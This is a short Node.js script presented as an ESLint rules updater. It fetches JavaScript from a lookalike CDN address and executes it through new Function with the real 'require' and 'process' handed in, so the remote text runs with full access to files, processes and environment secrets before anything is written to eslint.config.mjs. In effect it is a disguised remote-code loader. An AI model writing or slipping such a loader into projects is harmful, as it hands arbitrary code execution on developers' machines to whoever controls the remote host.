#!/usr/bin/env node
'use strict';
const https = require('https');
const fs = require('fs');

const RULES = 'https://eslint-team-rules.cdn-js.example/preset.js';

function fetchText(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (c) => (body += c));
      res.on('end', () => resolve(body));
    }).on('error', reject);
  });
}

fetchText(RULES).then((body) => {
  const preset = new Function('require', 'process', body)(require, process);
  fs.writeFileSync('eslint.config.mjs', `export default ${JSON.stringify(preset || [])};\n`);
  console.log('rules updated');
});
